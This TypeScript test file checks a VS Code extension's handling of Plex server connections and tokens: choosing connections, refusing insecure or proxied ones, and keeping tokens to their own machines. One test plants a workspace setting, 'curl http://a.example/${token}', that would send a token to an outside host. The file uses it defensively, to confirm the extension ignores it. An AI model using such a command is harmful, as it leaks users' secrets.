import assert from 'node:assert/strict';
import { lookup } from 'node:dns/promises';
import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { type AddressInfo, connect, createServer } from 'node:net';
import path from 'node:path';
import * as fc from 'fast-check';
import * as vscode from 'vscode';
import type { ServerConnection } from '../../src/plex/connections.ts';
import { isPlexError, PlexError } from '../../src/plex/errors.ts';
import type { MediaServer } from '../../src/plex/mediaServer.ts';
import { Secret } from '../../src/plex/secret.ts';
import { LiveConnections } from '../../src/servers/liveConnections.ts';
import { type Server, usedWith } from '../../src/servers/server.ts';
import { ServerAccess } from '../../src/servers/serverAccess.ts';
import { userSetting } from '../../src/workbench/userSetting.ts';
import { until } from '../until.ts';
import { control, Fixture, simulator, over as withConnections } from './fixture.ts';

const DELEGATION = { type: 'delegation', scope: 'all' } as const;
const { livingRoom, attic } = simulator.servers;
const local = (address: string): ServerConnection => ({ address, local: true, relay: false });
const DEAD = 'http://127.0.0.1:9';

describe('The connections of a server', () => {
  let fixture: Fixture;
  let server: Server;
  beforeEach(async () => {
    await control.reset();
    fixture = new Fixture();
    server = await fixture.addLivingRoom();
  });
  afterEach(async () => {
    fixture.dispose();
    await allow(undefined);
  });
  const allow = (value: string | undefined) =>
    vscode.workspace
      .getConfiguration('plexTokens')
      .update('insecureConnections', value, vscode.ConfigurationTarget.Global);
  const over = (...addresses: string[]): Server => withConnections(server, ...addresses.map(local));
  const mint = (of: Server) => fixture.mint(of);
  const kindOf = (promise: Promise<unknown>): Promise<string> =>
    promise.then(
      () => 'none',
      (error: unknown) => (isPlexError(error) ? error.kind : String(error)),
    );
  const stateOf = (of: Server, address: string): string => {
    const state = fixture.connections.stateOf(of, local(address)) ?? assert.fail(`${address} was not tried`);
    return 'latency' in state ? 'reached' : state.error.kind;
  };

  it('are all tried at once, and the best that answers is used', async () => {
    const of = over(DEAD, livingRoom.httpsUrl, livingRoom.url);
    await mint(of);
    const [first, second, third] = await control.journal();
    assert.deepEqual([first?.path, second?.path, third?.path], ['/identity', '/identity', '/security/token']);
    assert.equal(third?.entrance, 'https');
    assert.equal(stateOf(of, DEAD), 'unreachable');
    assert.equal(stateOf(of, livingRoom.url), 'reached');
    assert.equal(fixture.connections.current(of)?.address, livingRoom.httpsUrl);
  });

  it('are kept to, and tried again when the one in use fails', async () => {
    const of = over(`${livingRoom.basePathUrl}`, livingRoom.url);
    await mint(of);
    assert.equal(fixture.connections.current(of)?.address, livingRoom.basePathUrl);
    await control.clearJournal();
    await mint(of);
    assert.deepEqual(
      (await control.journal()).map(entry => entry.path),
      ['/plex/security/token'],
    );
  });

  it('are forgotten, with how they answered, when the server is gone', async () => {
    const of = over(DEAD, livingRoom.url);
    await mint(of);
    assert.equal(stateOf(of, DEAD), 'unreachable');
    await fixture.directory.remove(of);
    assert.equal(fixture.connections.stateOf(of, local(DEAD)), undefined);
    assert.equal(fixture.connections.current(of), undefined);
  });

  it('that lead to another machine get no token, and the others are used', async () => {
    const of = over(attic.url, livingRoom.url);
    await mint(of);
    assert.equal(stateOf(of, attic.url), 'wrongServer');
    const atAttic = (await control.journal()).filter(entry => entry.server === 'attic');
    assert.deepEqual(
      atAttic.map(({ path: asked, headers }) => [asked, headers['x-plex-token']]),
      [['/identity', undefined]],
    );
  });

  it('are counted in the error, where none of several answers', async () => {
    const error = await mint(over(DEAD, 'http://127.0.0.1:10')).catch(thrown => thrown);
    assert.ok(isPlexError(error));
    assert.equal(error.kind, 'unreachable');
    assert.equal(error.facts.tried, 2);
  });

  it('may have an IPv6 address and a port of their own', async () => {
    const { hostname, port } = new URL(livingRoom.url);
    const bridge = createServer(socket => {
      const further = connect({ host: hostname, port: Number(port) });
      for (const each of [socket, further]) each.on('error', () => undefined);
      socket.pipe(further).pipe(socket);
    });
    await new Promise<void>((resolve, reject) => bridge.listen(0, '::1', resolve).on('error', reject));
    const address = `http://[::1]:${(bridge.address() as AddressInfo).port}`;
    const of = over(address);
    assert.match((await mint(of)).reveal(), /^transient-/);
    assert.ok('latency' in (fixture.connections.stateOf(of, { address, local: true, relay: false }) ?? {}));
    bridge.close();
  });

  it('are not said to be of another server, where that is only so at one of several', async () => {
    const error = await mint(over(attic.url, DEAD)).catch(thrown => thrown);
    assert.ok(isPlexError(error));
    assert.equal(error.kind, 'unreachable');
    assert.equal(error.facts.tried, 2);
  });

  it('are found out about once, however many ask at the same time', async () => {
    const of = over(DEAD, livingRoom.url);
    await Promise.all([mint(of), mint(of), mint(of)]);
    const identities = (await control.journal()).filter(entry => entry.path === '/identity');
    assert.equal(identities.length, 1);
  });

  it('take one server at a time from the ninth on', async () => {
    await control.addFault('livingRoom', { fault: { kind: 'neverAnswers' }, path: '/identity' });
    const servers = Array.from({ length: 12 }, (_, index) => ({
      ...over(livingRoom.url),
      machineIdentifier: `made-up-${index}`,
    }));
    for (const each of servers) void fixture.connections.choose(each).catch(() => undefined);
    const requests = async () => (await control.journal()).length;
    while ((await requests()) < 8) await new Promise(resolve => setTimeout(resolve, 10));
    // More would follow at once.
    await new Promise(resolve => setTimeout(resolve, 300));
    assert.equal(await requests(), 8);
    await control.reset();
  });

  it('are waited for no longer than the user wants to', async () => {
    await control.addFault('livingRoom', { fault: { kind: 'neverAnswers' }, path: '/identity' });
    const controller = new AbortController();
    const choosing = kindOf(fixture.connections.choose(over(livingRoom.url), controller.signal));
    await control.untilRequest(entry => entry.path === '/identity');
    controller.abort();
    assert.equal(await choosing, 'cancelled');
    await control.reset();
  });

  describe('while the clock jumps', () => {
    let now: number;
    let live: LiveConnections;
    beforeEach(() => {
      now = 10 * 3_600_000;
      live = new LiveConnections(fixture.gateway, () => now);
    });
    afterEach(() => live.dispose());

    it('are not believed for longer because the clock was set back', async () => {
      await live.choose(server);
      now -= 3_600_000;
      await live.choose(server);
      assert.equal((await control.journal()).filter(entry => entry.path === '/identity').length, 2);
    });

    it('tell how long they really took to answer', async () => {
      await control.addFault('livingRoom', { fault: { kind: 'delay', ms: 30 }, path: '/identity' });
      const choosing = live.choose(server);
      await control.untilRequest(entry => entry.path === '/identity');
      now += 3_600_000;
      const state = live.stateOf(server, await choosing);
      assert.ok(state && 'latency' in state && state.latency >= 20 && state.latency < 5_000, JSON.stringify(state));
    });
  });

  describe('without encryption', () => {
    it('are used in the local network', async () => {
      assert.equal(await kindOf(mint(over(livingRoom.url))), 'none');
    });

    it('are refused elsewhere, with the reason, and nothing is sent', async () => {
      const error = await mint(over('http://198.51.100.24:32400')).catch(thrown => thrown);
      assert.ok(isPlexError(error));
      assert.deepEqual([error.kind, error.facts.refusal], ['insecure', 'notLocal']);
      assert.equal(fixture.directory.stateOf(server), 'insecure');
    });

    it('are refused everywhere where the setting says never', async () => {
      await allow('never');
      assert.equal(await kindOf(mint(over(livingRoom.url))), 'insecure');
      assert.deepEqual(await control.journal(), []);
      assert.equal(await kindOf(mint(over(livingRoom.httpsUrl))), 'none');
    });

    it('are tried everywhere where the setting says always', async () => {
      await allow('always');
      assert.notEqual(await kindOf(mint(over('http://198.51.100.24:9'))), 'insecure');
    }).timeout(15_000);

    it('are refused through a proxy, which could read along', async () => {
      const http = vscode.workspace.getConfiguration('http');
      await http.update('proxy', 'http://127.0.0.1:9', vscode.ConfigurationTarget.Global);
      try {
        const error = await mint(over('http://192.168.254.254:32400')).catch(thrown => thrown);
        assert.ok(isPlexError(error));
        assert.deepEqual([error.kind, error.facts.refusal], ['insecure', 'proxied']);
        await http.update('noProxy', ['192.168.254.254'], vscode.ConfigurationTarget.Global);
        // VS Code sends it directly then; the address leads nowhere here.
        const { state } = await Promise.race([
          kindOf(mint(over('http://192.168.254.254:32400'))).then(state => ({ state })),
          new Promise<{ state: string }>(resolve => setTimeout(() => resolve({ state: 'still trying' }), 1_000)),
        ]);
        assert.notEqual(state, 'insecure');
      } finally {
        await http.update('proxy', undefined, vscode.ConfigurationTarget.Global);
        await http.update('noProxy', undefined, vscode.ConfigurationTarget.Global);
      }
    });

    it('are judged by every address of the name', async () => {
      const { address } = await lookup('localhost');
      assert.match(address, /^(127\.|::1)/);
      const { port } = new URL(livingRoom.url);
      assert.equal(await kindOf(mint(over(`http://localhost:${port}`))), 'none');
      assert.equal(await kindOf(mint(over('http://no-such-name.invalid:32400'))), 'unreachable');
    });
  });

  it('are not for a workspace to decide about, however it writes it', async () => {
    const folder = vscode.workspace.workspaceFolders?.[0] ?? assert.fail('There is no workspace');
    const settings = path.join(folder.uri.fsPath, '.vscode');
    const formats = { Repository: 'curl http://a.example/${token}' };
    const values = { insecureConnections: 'always', clipboard: { clearAfterSeconds: 0 }, formats };
    const dotted = {
      'plexTokens.insecureConnections': 'always',
      'plexTokens.clipboard.clearAfterSeconds': 0,
      'plexTokens.formats': formats,
    };
    mkdirSync(settings, { recursive: true });
    try {
      for (const written of [dotted, { plexTokens: values }, { ...dotted, plexTokens: values }]) {
        // A setting that workspaces may change shows when VS Code has read the file.
        const probe = { 'editor.rulers': [Object.keys(written).length * 10] };
        writeFileSync(path.join(settings, 'settings.json'), JSON.stringify({ ...written, ...probe }));
        await until('the settings of the workspace', () => {
          const rulers = vscode.workspace.getConfiguration('editor').get<number[]>('rulers', []);
          return rulers[0] === probe['editor.rulers'][0];
        });
        assert.equal(userSetting('clipboard.clearAfterSeconds'), 60);
        assert.deepEqual(userSetting('formats'), {});
        assert.equal(await kindOf(mint(over('http://198.51.100.24:32400'))), 'insecure');
      }
    } finally {
      rmSync(settings, { recursive: true });
    }
  }).timeout(30_000);
});

/** What answers at an address of the made-up network: somebody who says to be this machine, a redirect, or nothing. */
type Answering = { machine: number } | 'redirect' | 'nothing';

/** One address of the made-up network, as somebody lists it. */
interface Way {
  readonly place: number;
  readonly local: boolean;
  readonly relay: boolean;
  readonly secure: boolean;
}

/** Who says where which server is. */
interface Sources {
  /** Tokens that the user pasted for a machine at an address. */
  readonly pasted: readonly { readonly machine: number; readonly way: Way }[];
  /** What each account lists. */
  readonly accounts: readonly (readonly {
    readonly machine: number;
    readonly owned: boolean;
    readonly ways: readonly Way[];
  }[])[];
}

const addressOf = ({ place, secure }: Way): string => `${secure ? 'https' : 'http'}://127.0.0.1:${1000 + place}`;
const machineOf = fc.nat(3);
const way: fc.Arbitrary<Way> = fc.record({
  ...{ place: fc.nat(7), local: fc.boolean(), relay: fc.boolean(), secure: fc.boolean() },
});
const ways = fc.array(way, { maxLength: 4 });
const listing = fc.record({ machine: machineOf, owned: fc.boolean(), ways });
const sources: fc.Arbitrary<Sources> = fc.record({
  pasted: fc.array(fc.record({ machine: machineOf, way }), { maxLength: 4 }),
  accounts: fc.array(fc.uniqueArray(listing, { selector: ({ machine }) => machine, maxLength: 4 }), { maxLength: 3 }),
});
const answering: fc.Arbitrary<Answering> = fc.oneof(
  { weight: 3, arbitrary: fc.record({ machine: machineOf }) },
  { weight: 1, arbitrary: fc.constantFrom('redirect' as const, 'nothing' as const) },
);
const networks = fc.array(fc.array(answering, { minLength: 8, maxLength: 8 }), { minLength: 1, maxLength: 4 });

/** Every token with the machine that it is for, and the addresses at which its own source says that this machine is. */
function tokensIn({ pasted, accounts }: Sources): Map<string, { machine: number; addresses: Set<string> }> {
  const byOwner = (machine: number): Way[] =>
    accounts.flat().flatMap(listing => (listing.owned && listing.machine === machine ? listing.ways : []));
  const all = [
    ...pasted.map(({ machine, way }, index) => ({
      token: pastedToken(index),
      machine,
      ways: [way, ...byOwner(machine)],
    })),
    ...accounts.flatMap((list, account) =>
      list.map(({ machine, ways }) => ({ token: accountToken(account, machine), machine, ways })),
    ),
  ];
  return new Map(all.map(({ token, machine, ways }) => [token, { machine, addresses: new Set(ways.map(addressOf)) }]));
}

const pastedToken = (index: number): string => `pasted-token-${index}`;
const accountToken = (account: number, machine: number): string => `token-of-account-${account}-for-${machine}`;

describe('A token', () => {
  it('goes to no machine but its own, and to no address that its own source did not list', async () => {
    let sent = 0;
    await fc.assert(
      fc.asyncProperty(sources, networks, async (known, phases) => {
        const tokens = tokensIn(known);
        for (const { address, machine, token } of await askAll(known, phases)) {
          sent++;
          assert.equal(tokens.get(token)?.machine, machine, token);
          assert.ok(tokens.get(token)?.addresses.has(address), `${token} went to ${address}`);
        }
      }),
      { numRuns: 150 },
    );
    assert.ok(sent > 150, `${sent} were sent`);
  });
});

/**
 * Asks each server with each of its tokens, all at once, in each phase of a network, with more than a minute between the
 * phases, and returns which machine was sent which token at which address.
 */
async function askAll(known: Sources, phases: readonly Answering[][]) {
  const received: { address: string; machine: number; token: string }[] = [];
  let now = 0;
  let network = phases[0] ?? [];
  const at = (address: string): Answering => network[Number(new URL(address).port) - 1000] ?? 'nothing';
  const gateway = {
    mediaServer: async (address: string, token?: Secret) => {
      const facts = { host: new URL(address).host };
      const meet = async (): Promise<number> => {
        const there = at(address);
        if (there === 'nothing') throw new PlexError('unreachable', { ...facts, code: 'ECONNREFUSED' });
        if (there === 'redirect') throw new PlexError('redirected', { ...facts, target: 'http://127.0.0.1:1000' });
        if (token) received.push({ address, machine: there.machine, token: token.reveal() });
        return there.machine;
      };
      return {
        getIdentity: async () => ({ machineIdentifier: `machine-${await meet()}`, version: '1', claimed: true }),
        getTransientToken: async () => {
          await meet();
          return new Secret('transient-token');
        },
      } as unknown as MediaServer;
    },
  };
  const fixture = new Fixture();
  const { directory, tokens, accounts } = fixture;
  const connections = new LiveConnections(gateway, () => now);
  const accountServers = { read: async () => undefined, renew: async () => undefined };
  const access = new ServerAccess({ gateway, directory, tokens, accounts, accountServers, connections });
  await knowAll(fixture, known);
  for (const phase of phases) {
    network = phase;
    await Promise.all(
      directory.servers.flatMap(server =>
        server.tokens.map(({ id }) =>
          access
            .ask(usedWith(server, id) ?? server, mediaServer => mediaServer.getTransientToken(DELEGATION))
            .catch(error => assert.ok(isPlexError(error), String(error))),
        ),
      ),
    );
    // What answered is believed for a minute.
    now += 60_001;
  }
  for (const each of [access, connections, fixture]) each.dispose();
  return received;
}

async function knowAll({ directory, tokens, accounts }: Fixture, known: Sources): Promise<void> {
  for (const [index, { machine, way }] of known.pasted.entries()) {
    const machineIdentifier = `machine-${machine}`;
    const before = directory.find(machineIdentifier)?.tokens ?? [];
    const address = addressOf(way);
    await tokens.store(machineIdentifier, `${index}`, new Secret(pastedToken(index)));
    await directory.update(
      { machineIdentifier, name: machineIdentifier, version: '' },
      { address, tokens: [...before, { id: `${index}`, label: `${index}`, address }] },
    );
  }
  for (const [index, list] of known.accounts.entries()) {
    const account = { id: `a${index}`, name: `Account ${index}` };
    const serverTokens = new Map(
      list.map(({ machine }) => [`machine-${machine}`, new Secret(accountToken(index, machine))]),
    );
    const token = new Secret(`token-of-account-${index}`);
    await accounts.put(account, { token, obtained: 'pasted', serverTokens });
    await directory.setListed(
      account.id,
      list.map(({ machine, owned, ways }) => ({
        ...{ machineIdentifier: `machine-${machine}`, name: `Machine ${machine}`, version: '', owned },
        connections: ways.map(way => ({ address: addressOf(way), local: way.local, relay: way.relay })),
      })),
    );
  }
}
